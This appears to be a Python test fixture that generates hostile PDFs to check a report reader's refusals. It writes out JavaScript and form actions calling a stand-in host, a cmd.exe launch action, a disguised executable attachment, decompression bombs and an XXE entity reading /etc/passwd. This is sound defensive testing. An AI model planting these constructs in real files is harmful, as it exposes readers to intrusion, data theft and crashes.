"""Hostile PDFs, each made on the spot, with what must be said of it when it is read as a report."""

from __future__ import annotations

import io
import zlib
from collections.abc import Callable
from typing import Any, Final

import pikepdf
from reportlab.pdfgen.canvas import Canvas

from dhr_desktop.base.report_text import Unread
from dhr_desktop.readers.refusals import Refusal

Said = Refusal | Unread | None
"""A refusal, a part that is named as not read, or None where it is read like any other."""
HostilePdf = tuple[str, Callable[[], bytes], Said]


def plain(text: str = "Aldersford wrote this page of the report.") -> bytes:
    target = io.BytesIO()
    canvas = Canvas(target, invariant=1)
    canvas.drawString(72, 700, text)
    canvas.save()
    return target.getvalue()


def changed(change: Callable[[Any], object], **options: Any) -> bytes:
    target = io.BytesIO()
    with pikepdf.open(io.BytesIO(plain())) as pdf:
        change(pdf)
        pdf.save(target, **options)
    return target.getvalue()


def by_hand(*objects: str, trailer: str = "") -> bytes:
    """Return a PDF of objects from 1 on, with the table of where they stand; 1 is its root."""
    data, places = bytearray(b"%PDF-1.7\n"), []
    for number, inner in enumerate(objects, 1):
        places.append(len(data))
        data += f"{number} 0 obj\n{inner}\nendobj\n".encode("latin-1")
    table = "".join(f"{place:010} 00000 n \n" for place in places)
    head = f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n{table}"
    end = f"trailer\n<</Size {len(objects) + 1}/Root 1 0 R{trailer}>>\nstartxref\n{len(data)}\n%%EOF\n"
    return bytes(data) + (head + end).encode()


def _action(kind: str, **more: Any) -> Callable[[], bytes]:
    def change(pdf: Any) -> None:
        pdf.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name("/" + kind), **more)

    return lambda: changed(change)


def _names_script() -> bytes:
    def change(pdf: Any) -> None:
        script = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.launchURL('http://192.0.2.1')")
        tree = pikepdf.Dictionary(Names=["a", pdf.make_indirect(script)])
        pdf.Root.Names = pikepdf.Dictionary(JavaScript=tree)

    return changed(change)


def _embedded() -> bytes:
    def change(pdf: Any) -> None:
        pdf.attachments["invoice.exe"] = pikepdf.AttachedFileSpec(pdf, b"MZ\x90", filename="invoice.exe")

    return changed(change)


def _loop_of_pages() -> bytes:
    return by_hand(
        "<</Type/Catalog/Pages 2 0 R>>",
        "<</Type/Pages/Kids[3 0 R]/Count 1>>",
        "<</Type/Pages/Kids[2 0 R]/Parent 2 0 R/Count 1>>",
    )


def _own_parent() -> bytes:
    return by_hand("<</Type/Catalog/Pages 2 0 R>>", "<</Type/Pages/Kids[2 0 R 2 0 R]/Parent 2 0 R/Count 2>>")


def _many_pages() -> bytes:
    page = "<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>"
    kids = " ".join(f"{number} 0 R" for number in range(3, 5_104))
    return by_hand(
        "<</Type/Catalog/Pages 2 0 R>>", f"<</Type/Pages/Kids[{kids}]/Count 5101>>", *[page] * 5_101
    )


def _boasts_of_pages() -> bytes:
    return by_hand(
        "<</Type/Catalog/Pages 2 0 R>>",
        "<</Type/Pages/Kids[3 0 R]/Count 2000000000>>",
        "<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>",
    )


def _loop_of_bookmarks() -> bytes:
    return by_hand(
        "<</Type/Catalog/Pages 2 0 R/Outlines 4 0 R>>",
        "<</Type/Pages/Kids[3 0 R]/Count 1>>",
        "<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>",
        "<</First 5 0 R>>",
        "<</Title(a)/Next 5 0 R/First 4 0 R>>",
    )


def squeezed(block: bytes, times: int) -> bytes:
    """Return a block many times over, compressed, without ever holding it all."""
    compressor = zlib.compressobj()
    return b"".join([*(compressor.compress(block) for _ in range(times)), compressor.flush()])


def _bomb() -> bytes:
    """A page whose drawing inflates a thousandfold, twice over."""
    inner = squeezed(b"0 0 m " * 1_000_000, 40)
    return changed(lambda pdf: _put(pdf, zlib.compress(inner, 9)))


def _put(pdf: Any, data: bytes) -> None:
    twice = pikepdf.Array([pikepdf.Name.FlateDecode] * 2)
    pdf.pages[0].Contents = pdf.make_indirect(pikepdf.Stream(pdf, data, Filter=twice))


def _spare_bomb() -> bytes:
    data = squeezed(b"<x>" + b" " * 8_000_000, 60)

    def change(pdf: Any) -> None:
        pdf.Root.Spare = pdf.make_indirect(pikepdf.Stream(pdf, data, Filter=pikepdf.Name.FlateDecode))

    return changed(change, compress_streams=False)


def _nested(depth: int) -> bytes:
    return by_hand(
        "<</Type/Catalog/Pages 2 0 R/Spare " + "[" * depth + "]" * depth + ">>",
        "<</Type/Pages/Kids[3 0 R]/Count 1>>",
        "<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>",
    )


def _many_objects() -> bytes:
    return by_hand(
        "<</Type/Catalog/Pages 2 0 R>>",
        "<</Type/Pages/Kids[3 0 R]/Count 1>>",
        "<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>",
        *["null"] * 10,
        *["(x)"] * 500_001,
    )


def _huge_picture() -> bytes:
    def change(pdf: Any) -> None:
        picture = pikepdf.Stream(
            pdf,
            zlib.compress(b"\x00" * 1000),
            Type=pikepdf.Name.XObject,
            Subtype=pikepdf.Name.Image,
            Width=2_000_000_000,
            Height=2_000_000_000,
            BitsPerComponent=8,
            ColorSpace=pikepdf.Name.DeviceRGB,
            Filter=pikepdf.Name.FlateDecode,
        )
        pdf.pages[0].Resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(A=pdf.make_indirect(picture)))
        pdf.pages[0].Contents = pdf.make_indirect(pikepdf.Stream(pdf, b"/A Do"))

    return changed(change)


def _form_with_entities() -> bytes:
    laughs = "<!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]><x>&a;</x>"

    def change(pdf: Any) -> None:
        form = pdf.make_indirect(pikepdf.Stream(pdf, laughs.encode()))
        pdf.Root.AcroForm = pikepdf.Dictionary(Fields=[], XFA=form)

    return changed(change)


def _field_loop() -> bytes:
    def change(pdf: Any) -> None:
        field = pdf.make_indirect(pikepdf.Dictionary(Subtype=pikepdf.Name.Widget, T="a"))
        field.Parent = field
        pdf.pages[0].Annots = pikepdf.Array([field])
        pdf.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array([field]))

    return changed(change)


def _locked(user: str) -> bytes:
    return changed(lambda _: None, encryption=pikepdf.Encryption(owner="owner", user=user))


def _unknown_lock() -> bytes:
    return by_hand(
        "<</Type/Catalog/Pages 2 0 R>>",
        "<</Type/Pages/Kids[]/Count 0>>",
        trailer="/Encrypt<</Filter/Evil/V 9/R 9/O(x)/U(x)/P 0>>/ID[(a)(b)]",
    )


PDFS: Final[tuple[HostilePdf, ...]] = (
    ("script.pdf", _action("JavaScript", JS="app.alert(1)"), None),
    ("script-names.pdf", _names_script, None),
    ("launch.pdf", _action("Launch", F="cmd.exe"), None),
    ("share.pdf", _action("GoToR", F="\\\\192.0.2.1\\share\\x.pdf"), None),
    ("sends.pdf", _action("SubmitForm", F="http://192.0.2.1/"), None),
    ("embedded.pdf", _embedded, Unread.EMBEDDED),
    ("loop-pages.pdf", _loop_of_pages, Refusal.DAMAGED),
    ("own-parent.pdf", _own_parent, Refusal.DAMAGED),
    ("many-pages.pdf", _many_pages, Refusal.TOO_MUCH),
    ("boasts.pdf", _boasts_of_pages, Unread.NO_TEXT),
    ("loop-bookmarks.pdf", _loop_of_bookmarks, Unread.NO_TEXT),
    ("loop-field.pdf", _field_loop, None),
    ("many-objects.pdf", _many_objects, Refusal.TOO_MUCH),
    ("bomb.pdf", _bomb, Refusal.UNPACKS_TOO_LARGE),
    ("bomb-spare.pdf", _spare_bomb, Refusal.UNPACKS_TOO_LARGE),
    ("nested.pdf", lambda: _nested(400), Refusal.TOO_DEEP),
    ("nested-deep.pdf", lambda: _nested(200_000), Refusal.DAMAGED),
    ("picture.pdf", _huge_picture, Unread.PICTURE),
    ("form.pdf", _form_with_entities, None),
    ("locked.pdf", lambda: _locked("secret"), Refusal.LOCKED),
    ("locked-open.pdf", lambda: _locked(""), Refusal.LOCKED),
    ("unknown-lock.pdf", _unknown_lock, Refusal.DAMAGED),
    ("no-table.pdf", lambda: plain().replace(b"xref", b"xxxx"), None),
    ("wrong-table.pdf", lambda: plain().replace(b"startxref\n", b"startxref\n9"), None),
    ("earlier.pdf", lambda: plain() + plain(), Unread.EARLIER),
    ("cut.pdf", lambda: plain()[:300], Refusal.DAMAGED),
    ("head.pdf", lambda: b"%PDF-1.7\n", Refusal.DAMAGED),
    ("noise.pdf", lambda: b"%PDF-1.7\n" + bytes(range(256)) * 40, Refusal.DAMAGED),
)
